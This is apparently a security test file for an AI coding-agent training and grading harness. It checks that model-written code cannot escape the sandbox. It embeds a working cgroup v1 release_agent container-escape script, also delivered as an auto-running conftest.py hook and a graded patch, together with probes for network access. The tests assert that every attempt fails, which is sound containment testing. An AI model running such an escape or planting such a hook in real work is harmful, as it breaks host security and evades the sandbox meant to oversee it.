"""Model-written code cannot reach the host: not in the agent's sandbox, not during grading, not in RLVR.

One attack script (run as a command in the sandbox, or as a graded patch's ``conftest.py``) tries what gave
host root through the harness's own containers (``cap_add=["SYS_ADMIN"]`` as root, cgroup v1, no
AppArmor): it reads its capabilities, mounts a tmpfs, mounts a cgroup v1 hierarchy and points its
``release_agent`` at a script that would touch a file on the host, writes every ``release_agent`` it can
see, and opens a connection and a DNS lookup. Every attempt must fail, and grading must still grade.
"""

from __future__ import annotations

import json
import re
import uuid
from pathlib import Path

import pytest

from srl_swe.runtime.docker import DockerRuntime
from srl_swe.runtime.images import ensure_base_image
from srl_swe.swebench.datasets import load_instances
from srl_swe.swebench.grading import grade_with_harness
from srl_swe.swebench.images import ensure_image

pytestmark = [pytest.mark.slow, pytest.mark.shared_data]
M1867 = "marshmallow-code__marshmallow-1867"
TOKEN = uuid.uuid4().hex[:12]
ESCAPED = Path(f"/tmp/srl-swe-escaped-{TOKEN}")  # what the release_agent payload would create on the host

ATTACK = r'''
import ctypes, errno, glob, json, os, socket, subprocess

def _errname(code):
    return errno.errorcode.get(code, str(code))

def srl_attack(token):
    out = {"uid": os.getuid()}
    status = dict(line.split(":\t", 1) for line in open("/proc/self/status").read().splitlines() if ":\t" in line)
    for key in ("CapEff", "CapPrm", "CapBnd", "NoNewPrivs"):
        out[key] = status.get(key, "?").strip()
    libc = ctypes.CDLL(None, use_errno=True)
    def mount(source, target, fstype, data):
        os.makedirs(target, exist_ok=True)
        ok = libc.mount(source.encode(), target.encode(), fstype.encode(), 0, data.encode() if data else None) == 0
        return "ok" if ok else _errname(ctypes.get_errno())
    out["mount_tmpfs"] = mount("tmpfs", "/tmp/srl-mnt", "tmpfs", None)
    for controller in ("rdma", "memory", "pids", "cpu"):  # the first this kernel has (EINVAL: it has not)
        out["mount_cgroup"] = mount("cgroup", "/tmp/srl-cg", "cgroup", controller)
        if out["mount_cgroup"] != "EINVAL":
            break
    # The payload's path as the host sees it: the overlay upper dir of this container's root.
    upper = ""
    for line in open("/proc/self/mountinfo"):
        if " / / " in line and "upperdir=" in line:
            upper = line.split("upperdir=", 1)[1].split(",", 1)[0].split()[0]
    with open("/tmp/srl-payload.sh", "w") as f:
        f.write("#!/bin/sh\ntouch /tmp/srl-swe-escaped-" + token + "\n")
    os.chmod("/tmp/srl-payload.sh", 0o755)
    agent = upper + "/tmp/srl-payload.sh"
    targets = glob.glob("/sys/fs/cgroup/*/release_agent") + glob.glob("/sys/fs/cgroup/release_agent")
    if out["mount_cgroup"] == "ok":
        targets.append("/tmp/srl-cg/release_agent")
    written = {}
    for target in targets:
        try:
            with open(target, "w") as f:
                f.write(agent)
            written[target] = "ok"
        except OSError as e:
            written[target] = _errname(e.errno)
    out["release_agent"] = written
    if out["mount_cgroup"] == "ok":  # trigger it: an emptied child cgroup with notify_on_release
        try:
            os.makedirs("/tmp/srl-cg/x", exist_ok=True)
            open("/tmp/srl-cg/x/notify_on_release", "w").write("1")
            subprocess.run(["sh", "-c", "echo $$ > /tmp/srl-cg/x/cgroup.procs"], timeout=10)
        except Exception as e:
            out["trigger"] = repr(e)
    try:
        socket.create_connection(("1.1.1.1", 80), timeout=3).close()
        out["net_tcp"] = "ok"
    except OSError as e:
        out["net_tcp"] = _errname(e.errno) if e.errno else type(e).__name__
    try:
        socket.getaddrinfo("pypi.org", 443)
        out["net_dns"] = "ok"
    except OSError as e:
        out["net_dns"] = type(e).__name__
    return out
'''
CONFTEST = ATTACK + f'''

def pytest_report_header(config):
    return "SRL-ATTACK " + json.dumps(srl_attack("{TOKEN}"))
'''
SCRIPT = ATTACK + f'\nprint("SRL-ATTACK " + json.dumps(srl_attack("{TOKEN}")))\n'


def attack_results(text: str) -> list[dict]:
    return [json.loads(m) for m in re.findall(r"^SRL-ATTACK (\{.*\})$", text, flags=re.M)]


def assert_contained(result: dict, *, non_root: bool) -> None:
    assert result["CapEff"] == result["CapPrm"] == result["CapBnd"] == "0000000000000000", result
    assert result["NoNewPrivs"] == "1", result
    assert (result["uid"] != 0) == non_root, result
    assert result["mount_tmpfs"] == "EPERM" and result["mount_cgroup"] == "EPERM", result
    assert "ok" not in result["release_agent"].values(), result
    assert result["net_tcp"] != "ok" and result["net_dns"] != "ok", result
    assert not ESCAPED.exists(), "the release_agent payload ran on the host"


def new_file_patch(path: str, text: str) -> str:
    lines = text.splitlines()
    body = "".join(f"+{line}\n" for line in lines)
    return (f"diff --git a/{path} b/{path}\nnew file mode 100644\n--- /dev/null\n+++ b/{path}\n"
            f"@@ -0,0 +1,{len(lines)} @@\n{body}")


@pytest.fixture(scope="module")
def task(local_tasks):
    return load_instances(local_tasks, [M1867])[0]


@pytest.fixture(scope="module")
def task_image(task, docker_client) -> str:
    return ensure_image(task, client=docker_client)


@pytest.mark.parametrize("which", ["task", "base"])
def test_agent_sandbox_contains_the_attack(which, task_image, docker_client):
    # The task image runs as its unprivileged user; the base image has no USER: root, but without capabilities.
    image = task_image if which == "task" else ensure_base_image(docker_client)
    with DockerRuntime(image, client=docker_client, timeout=60) as rt:
        if which == "base":
            rt.write_file("/tmp/attack.sh", _shell_attack())
            res = rt.execute("bash /tmp/attack.sh")
            assert res.ok, res.output
            got = dict(line.split("=", 1) for line in res.output.split())
            assert got["uid"] == "0" and got["CapEff"] == got["CapBnd"] == "0000000000000000", got
            assert got["NoNewPrivs"] == "1" and got["mount"] != "0" and got["cgroup"] != "0", got
            return
        rt.write_file("/tmp/attack.py", SCRIPT)
        res = rt.execute("python3 /tmp/attack.py")
        assert res.ok, res.output
        (result,) = attack_results(res.output)
        assert_contained(result, non_root=True)
        assert rt.execute("id -un").output.strip() == "srl"
        assert rt.execute("echo next").output == "next\n"


def _shell_attack() -> str:
    # The base image has no python: the same probes with coreutils and util-linux.
    return ('echo uid=$(id -u); grep -E "^(CapEff|CapBnd|NoNewPrivs):" /proc/self/status | tr -d "\\t" | '
            "sed 's/:/=/'; mkdir -p /tmp/m /tmp/c; mount -t tmpfs tmpfs /tmp/m 2>/dev/null; echo mount=$?; "
            "mount -t cgroup -o rdma cgroup /tmp/c 2>/dev/null; echo cgroup=$?\n")


@pytest.fixture(scope="module")
def graded(task, task_image, docker_client, tmp_path_factory):
    """Gold + attack, empty, and attack only (wrong: it fixes nothing), through the sandboxed harness."""
    work = tmp_path_factory.mktemp("attack-grading")
    attack = new_file_patch("conftest.py", CONFTEST)
    pred = lambda run, patch: {"instance_id": task.instance_id, "model_name_or_path": run, "model_patch": patch}  # noqa: E731
    results = {}
    for run, patch in (("gold", task.patch + attack), ("empty", ""), ("wrong", attack)):
        results[run] = grade_with_harness([pred(run, patch)], [task], run_id=f"attack-{run}", workdir=work)
    return work, results


def test_graded_patches_cannot_escape_and_still_grade(graded, task):
    work, results = graded
    statuses = {run: res[task.instance_id].status for run, res in results.items()}
    assert statuses == {"gold": "resolved", "empty": "empty_patch", "wrong": "unresolved"}
    for run in ("gold", "wrong"):
        log = work / "logs/run_evaluation" / f"attack-{run}" / run / task.instance_id / "test_output.txt"
        found = attack_results(log.read_text())
        assert len(found) == 1, f"the conftest did not run in {run}"
        assert_contained(found[0], non_root=True)
    instance_log = (work / "logs/run_evaluation/attack-gold/gold" / task.instance_id / "run_instance.log").read_text()
    assert "created by srl-swe" in instance_log and "no capabilities" in instance_log


def test_the_same_attack_through_an_rlvr_rollout(task, task_image, tmp_path):
    """The environment TRL's GRPOTrainer(environment_factory=...) drives: the rollout writes the attack,
    runs it in its sandbox, fixes the bug, submits; the reward comes from the sandboxed harness."""
    from srl_swe.train.exec_env import exec_environment_factory

    env = exec_environment_factory([task], runtime="docker", workdir=str(tmp_path))()
    env.reset(task.instance_id)
    env.str_replace_editor("create", "/testbed/conftest.py", file_text=CONFTEST)
    observation = env.bash("python3 -m pytest tests/test_serialization.py -k nothing 2>&1 | grep SRL-ATTACK")
    (in_rollout,) = attack_results(observation)
    assert_contained(in_rollout, non_root=True)
    env.str_replace_editor("create", "/testbed/.git/fix.diff", file_text=task.patch)
    assert "error" not in env.bash("git apply .git/fix.diff && git status --short").lower()
    env.submit()
    assert env.get_reward() == 1.0
    (log,) = tmp_path.glob("logs/run_evaluation/rlvr-*/*/*/test_output.txt")
    (in_grading,) = attack_results(log.read_text())
    assert_contained(in_grading, non_root=True)
